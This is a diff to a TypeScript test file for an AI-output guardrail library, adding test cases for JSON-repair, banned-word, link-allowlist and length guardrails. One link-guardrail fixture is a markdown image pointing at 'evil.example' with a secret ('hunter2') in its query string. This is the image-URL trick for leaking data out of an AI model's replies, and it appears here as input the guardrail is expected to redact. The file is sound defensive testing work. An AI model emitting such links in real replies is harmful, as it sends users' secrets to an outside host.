@@ -9,11 +9,15 @@ import type { Guardrail } from '@aiwork/core';
 import { z } from 'zod';
 import { guardrailChain } from './src/combine/guardrail-chain.ts';
 import { customGuardrail } from './src/custom-guardrail.ts';
+import { jsonRepairGuardrail } from './src/json/json-repair-guardrail.ts';
 import { jsonSchemaGuardrail } from './src/json-schema-guardrail.ts';
+import { linkGuardrail } from './src/links/link-guardrail.ts';
 import { personalDataGuardrail } from './src/personal-data/personal-data-guardrail.ts';
 import { sealedValues } from './src/personal-data/sealed-values.ts';
 import { regexGuardrail } from './src/regex-guardrail.ts';
 import { schemaGuardrail } from './src/schema-guardrail.ts';
+import { lengthGuardrail } from './src/text/length-guardrail.ts';
+import { wordGuardrail } from './src/words/word-guardrail.ts';
 
 // Their deadlines are some seconds; this leaves room for a busy machine.
 const maxMs = 10_000;
@@ -92,4 +96,29 @@ export default [
       ],
     },
   ),
+  holdTo(jsonRepairGuardrail({ name: 'JSON repair', on: ['output'] }), {
+    passes: ['{ "total": 12 }'],
+    catches: [
+      { text: "{ 'total': 12, }", action: 'redact' },
+      { text: 'hunter2 is no JSON', action: 'retry', found: 'hunter2' },
+    ],
+  }),
+  holdTo(
+    wordGuardrail({ name: 'words', words: ['hunter2', 'swordfish'], fold: 'look-alikes', onFail: 'redact' }),
+    {
+      passes: ['hunter', 'a swordfishes b'],
+      catches: [{ text: 'it is hunter2, or swordfish', action: 'redact', found: 'hunter2' }],
+    },
+  ),
+  holdTo(linkGuardrail({ name: 'links', hosts: ['example.org'] }), {
+    passes: ['See https://example.org/a.', '![a](b.png)'],
+    catches: [
+      { text: '![](https://evil.example/?q=hunter2) x', action: 'redact', found: 'hunter2' },
+      { text: 'a [b](//evil.example) c', action: 'redact', found: '//evil.example' },
+    ],
+  }),
+  holdTo(lengthGuardrail({ name: 'length', unit: 'words', max: 3, whileStreaming: 'show' }), {
+    passes: ['one two three', 'one'],
+    catches: [{ text: 'one two three four five', action: 'block' }],
+  }),
 ];
